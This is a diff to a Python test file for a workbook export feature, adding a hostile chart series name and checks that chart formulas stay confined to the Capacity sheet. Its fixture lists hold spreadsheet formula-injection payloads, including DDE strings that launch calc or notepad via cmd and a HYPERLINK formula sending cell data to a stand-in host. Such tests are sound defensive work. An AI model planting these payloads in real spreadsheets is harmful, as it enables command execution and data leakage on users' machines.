@@ -6,6 +6,7 @@ import csv
 import functools
 import hashlib
 import os
+import re
 from pathlib import Path
 
 import numpy as np
@@ -146,6 +147,7 @@ def test_output_that_is_an_input_is_refused(tmp_path):
 HOSTILE_PROJECTS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+1",
                     "@SUM(1+1)", "Проект Альфа 项目", "🚀 launch 👩‍💻", "line one\nline two", "p" * 10_000]
 HOSTILE_PEOPLE = ["=1+2", "-Ann Lee", "@Bo", "Зоя Ли", "李 娜", "Émile 🙂"]
+HOSTILE_ROLE = "=Summary!$A$1"  # xlsxwriter reads a series name like this as a cell reference
 HOSTILE_MANAGERS = ["=cmd|' /C notepad'!'A1'", "+Mgr", "\tTab Mgr"]
 N_TRIALS = 500
 REPO = Path(__file__).resolve().parent.parent
@@ -170,6 +172,7 @@ def _hostile(sample):
         for c in cols:
             df[c] = df[c].replace(m)
     tasks[S.TASK_TYPE] = tasks[S.TASK_TYPE].replace({"review": "=review()", "deploy": "+deploy"})
+    people[S.ROLE] = people[S.ROLE].replace({"analyst": HOSTILE_ROLE})  # a chart series name
     return tasks, projects, people, requests
 
 
@@ -385,7 +388,11 @@ def test_utilisation_heatmap_and_chart(pack, book):
     np.testing.assert_allclose(heat[week].astype(float).to_numpy(), expect, rtol=1e-12)
     with zipfile.ZipFile(pack.path) as z:
         charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
-    assert any("Utilisation by week" in c for c in charts)
+    util = [c for c in charts if "Utilisation by week" in c]
+    assert len(util) == 1
+    assert f"<c:v>{HOSTILE_ROLE}</c:v>" in util[0]  # a series named by its header cell, cached as text
+    formulas = re.findall(r"<c:f>(.*?)</c:f>", util[0])
+    assert formulas and all(re.fullmatch(r"Capacity!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?", f) for f in formulas)
 
 
 def test_accuracy_by_team_counts_every_finished_task(data, book):
